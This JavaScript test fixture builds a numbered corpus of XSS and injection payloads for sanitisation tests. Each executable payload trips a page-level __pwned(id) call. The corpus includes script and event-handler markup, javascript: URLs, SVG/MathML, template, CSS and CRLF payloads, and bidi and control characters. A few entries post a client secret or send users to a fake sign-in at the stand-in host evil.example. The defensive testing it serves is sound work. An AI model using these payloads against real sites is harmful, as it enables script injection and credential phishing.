// The hostile strings of the injection tests (issue 8): markup, event handlers, `javascript:`
// URLs, SVG and MathML, template and CSS payloads, bidirectional overrides, NUL and other
// control characters, and very long strings. Every executable payload calls
// `__pwned(<its index>)` (or alert), the page-level tripwire of tests/csp-page/page.js, so a
// payload that ever runs names itself.

const P = (id) => `__pwned(${id})`;

/** Builders: each gets the payload call for its index. */
const builders = [
  // Script elements, in every disguise.
  (p) => `<script>${p}</script>`,
  (p) => `<SCRIPT>${p}</SCRIPT>`,
  (p) => `<script src="data:text/javascript,${p}"></script>`,
  (p) => `<script type="module">${p}</script>`,
  (p) => `</title><script>${p}</script>`,
  (p) => `</textarea><script>${p}</script>`,
  (p) => `</style><script>${p}</script>`,
  (p) => `"><script>${p}</script>`,
  (p) => `'><script>${p}</script>`,
  (p) => `<scr<script>ipt>${p}</scr</script>ipt>`,
  (p) => `<script>/*`,
  (p) => `<!--<script>${p}</script>-->`,
  (p) => `<![CDATA[<script>${p}</script>]]>`,
  (p) => `&lt;script&gt;${p}&lt;/script&gt;`,
  (p) => `&#60;script&#62;${p}&#60;/script&#62;`,
  (p) => `\\u003cscript\\u003e${p}\\u003c/script\\u003e`,
  (p) => `%3Cscript%3E${p}%3C%2Fscript%3E`,
  // Event-handler attributes.
  (p) => `<img src=x onerror="${p}">`,
  (p) => `<img src=x onerror=${p}>`,
  (p) => `<IMG SRC=x OnErRoR=${p}>`,
  (p) => `<img/src=x/onerror=${p}>`,
  (p) => `<svg onload=${p}>`,
  (p) => `<body onload=${p}>`,
  (p) => `<input autofocus onfocus=${p}>`,
  (p) => `<details open ontoggle=${p}>`,
  (p) => `<video><source onerror=${p}></video>`,
  (p) => `<audio src=x onerror=${p}>`,
  (p) => `<marquee onstart=${p}>x</marquee>`,
  (p) => `<div onmouseover="${p}" style="position:fixed;inset:0">x</div>`,
  (p) => `<button onclick="${p}">Connect</button>`,
  (p) => `<form><button formaction="javascript:${p}">x</button></form>`,
  (p) => `" onfocus="${p}" autofocus="`,
  (p) => `' onmouseover='${p}' x='`,
  (p) => `" onerror="${p}`,
  (p) => `x" onload="${p}" y="`,
  (p) => `<select onfocus=${p} autofocus>`,
  (p) => `<textarea onfocus=${p} autofocus>`,
  (p) => `<keygen autofocus onfocus=${p}>`,
  (p) => `<object data=x onerror=${p}>`,
  (p) => `<body onpageshow=${p}>`,
  // javascript: and other scheme URLs.
  (p) => `javascript:${p}`,
  (p) => `JaVaScRiPt:${p}`,
  (p) => `java\tscript:${p}`,
  (p) => `java\nscript:${p}`,
  (p) => ` javascript:${p}`,
  (p) => `\u0000javascript:${p}`,
  (p) => `&#106;avascript:${p}`,
  (p) => `javascript&colon;${p}`,
  (p) => `vbscript:${p}`,
  (p) => `data:text/html,<script>${p}</script>`,
  (p) => `data:text/html;base64,${Buffer.from(`<script>${p}</script>`).toString('base64')}`,
  (p) => `<a href="javascript:${p}">Microsoft documentation</a>`,
  (p) => `<a href="https://evil.example/phish">Sign in again</a>`,
  (p) => `<iframe src="javascript:${p}"></iframe>`,
  (p) => `<iframe srcdoc="<script>parent.${p}</script>"></iframe>`,
  (p) => `<embed src="javascript:${p}">`,
  (p) => `<meta http-equiv="refresh" content="0;url=javascript:${p}">`,
  (p) => `<base href="javascript:${p}//">`,
  (p) => `<form action="https://evil.example/steal"><input name=clientSecret></form>`,
  (p) => `<link rel=import href="data:text/html,<script>${p}</script>">`,
  // SVG and MathML.
  (p) => `<svg><script>${p}</script></svg>`,
  (p) => `<svg><animate onbegin=${p} attributeName=x dur=1s>`,
  (p) => `<svg><a xlink:href="javascript:${p}"><text y=20>x</text></a></svg>`,
  (p) => `<svg><foreignObject><img src=x onerror=${p}></foreignObject></svg>`,
  (p) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${p}'/></svg>#x"/></svg>`,
  (p) => `<svg><set attributeName=onmouseover to=${p}>`,
  (p) => `<math><mtext><table><mglyph><style><img src=x onerror=${p}>`,
  (p) => `<noscript><p title="</noscript><img src=x onerror=${p}>">`,
  (p) => `<template><script>${p}</script></template>`,
  (p) => `<xmp><script>${p}</script></xmp>`,
  // Template and placeholder payloads (the catalogs use {appName}, {fields}, {when}, {tenant}).
  (p) => `{{constructor.constructor('${p}')()}}`,
  (p) => `\${${p}}`,
  (p) => `#{${p}}`,
  (p) => `<%= ${p} %>`,
  (p) => `{appName}{appName}{appName}{tenant}{fields}{when}`,
  (p) => `{appName}<img src=x onerror=${p}>`,
  (p) => `{{7*7}}[[7*7]]{7*7}`,
  (p) => `{{$on.constructor('${p}')()}}`,
  (p) => `__proto__`,
  (p) => `constructor`,
  // CSS payloads.
  (p) => `<style>@import 'https://evil.example/x.css';</style>`,
  (p) => `<style>*{background:url("javascript:${p}")}</style>`,
  (p) => `red;}body{display:none}x{`,
  (p) => `expression(${p})`,
  (p) => `url(javascript:${p})`,
  (p) => `</style><style>@import url(//evil.example/x.css)</style>`,
  (p) => `<link rel=stylesheet href=https://evil.example/x.css>`,
  (p) => `<div style="background:url(javascript:${p})">x</div>`,
  (p) => `-moz-binding:url(//evil.example/xss.xml#x)`,
  (p) => `@import "//evil.example"; :host{display:none}`,
  // Bidirectional overrides and invisible characters.
  (p) => `\u202Egnp.exe\u202C`,
  (p) => `contoso.onmicrosoft.com\u202E<script>${p}</script>`,
  (p) => `\u2066\u2067\u2068${p}\u2069`,
  (p) => `\u200F\u200E\u061C<img src=x onerror=${p}>`,
  (p) => `\u202Dcontoso\u202C.onmicrosoft.com`,
  (p) => `\u200B\u200C\u200D\u2060\uFEFF`,
  (p) => `Acme\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 CRM`,
  (p) => `\uD800<script>${p}</script>\uDFFF`,
  (p) => `👩‍👩‍👧‍👦<img src=x onerror=${p}>`,
  // Control characters, NUL, CRLF.
  (p) => `\u0000`,
  (p) => `abc\u0000<script>${p}</script>`,
  (p) => `<scr\u0000ipt>${p}</scr\u0000ipt>`,
  (p) => `\r\nSet-Cookie: secret=1\r\n\r\n<script>${p}</script>`,
  (p) => `\u0007\u0008\u001B[31mred\u001B[0m`,
  (p) => `\u2028<script>${p}</script>\u2029`,
  // Very long strings.
  (p) => `A`.repeat(100_000),
  (p) => `<`.repeat(20_000),
  (p) => `<img src=x onerror=${p}>`.repeat(2_000),
  (p) => `😀`.repeat(30_000),
  (p) => `\u0000`.repeat(10_000),
  (p) => `x`.repeat(2_001),
  // Breaking out of JSON and string contexts.
  (p) => `"}]}<script>${p}</script>`,
  (p) => `\\"; ${p}; //`,
  (p) => `'; ${p}; //`,
  (p) => `\`; ${p}; //\``,
  (p) => `</div></form></dialog><script>${p}</script>`,
  (p) => `<dialog open><p>Your session expired. <a href="https://evil.example">Sign in</a></dialog>`,
];

/** The corpus: `{ id, text }`, where `id` is the index the payload reports. */
export const hostileCorpus = builders.map((build, id) => ({ id, text: build(P(id)) }));

/** Short printable label of an entry, for assertion messages. */
export function label(entry) {
  const printable = entry.text
    .slice(0, 60)
    .replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2066-\u2069]/g, (c) =>
      `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
    );
  return `#${entry.id} ${JSON.stringify(printable)}${entry.text.length > 60 ? `… (${entry.text.length} chars)` : ''}`;
}
